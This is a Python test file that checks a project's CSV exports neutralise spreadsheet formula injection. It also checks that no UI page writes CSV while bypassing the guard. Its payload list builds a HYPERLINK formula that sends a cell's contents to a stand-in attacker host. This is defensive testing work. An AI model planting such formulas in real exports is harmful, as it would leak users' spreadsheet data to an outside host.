"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection): a cell or header starting
with =, +, -, @, tab or CR is prefixed with ' in `geokg export --format csv`, `geokg query
--format csv` and every CSV download of the app (the Cypher page, Analytics, Timeline)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from geokg.graph.analysis.export import FORMULA_START, csv_text

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [start + 'HYPERLINK("http://evil.example/?x="&A1,"click")' for start in FORMULA_START]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(s) for s in FORMULA_START])
def test_formula_in_a_cell_stays_text(payload):
    assert _cells(csv_text(pd.DataFrame({"name": [payload]})))[1] == ["'" + payload]


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(s) for s in FORMULA_START])
def test_formula_in_a_header_stays_text(payload):
    assert _cells(csv_text(pd.DataFrame({payload: [1]})))[0] == ["'" + payload]


def test_plain_text_and_numbers_are_unchanged():
    assert _cells(csv_text(pd.DataFrame({"name": ["Belarus"], "n": [-3]})))[1] == ["Belarus", "-3"]



def test_no_csv_leaves_the_app_but_through_the_formula_guard():
    """Every CSV the app or the CLI writes goes through graph/analysis/export.py (csv_text or
    spreadsheet_safe): a page calling pandas' to_csv itself would skip the guard."""
    offenders = [f"{p.relative_to(ROOT)}:{n}" for p in sorted((ROOT / "ui").glob("*.py")) + [ROOT / "app.py"]
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if re.search(r"\.to_csv\(", line)]
    assert offenders == []
